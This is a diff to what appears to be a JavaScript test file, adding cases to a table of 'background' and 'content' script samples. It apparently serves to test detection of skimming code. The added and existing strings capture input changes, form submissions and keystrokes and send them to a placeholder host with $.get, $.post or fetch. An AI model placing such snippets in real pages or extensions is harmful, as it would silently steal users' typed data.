@@ -52,6 +52,16 @@ test.each<[string, 'background' | 'content', string]>([
     `jQuery.noConflict()(function ($) { $('input').change(function () { $.get('${HOST}/?' + $(this).val()); }); });`,
   ],
   [
+    'to a loader of modules',
+    'content',
+    `define(['jquery', './own'], function ($) { $('form').submit(function () { $.post('${HOST}', $(this).serialize()); }); });`,
+  ],
+  [
+    'to what calls it less often',
+    'content',
+    `document.addEventListener('input', _.debounce((e) => fetch('${HOST}', { method: 'POST', body: e.target.value }), 500));`,
+  ],
+  [
     'in a list of modules',
     'content',
     `!function(e){${RUNTIME}n(0)}([function(e,t,n){var r=n(1);${SUBMIT}},function(e,t){t.post=function(e,t){return fetch("${HOST}"+e,{method:"POST",body:t})}}]);`,
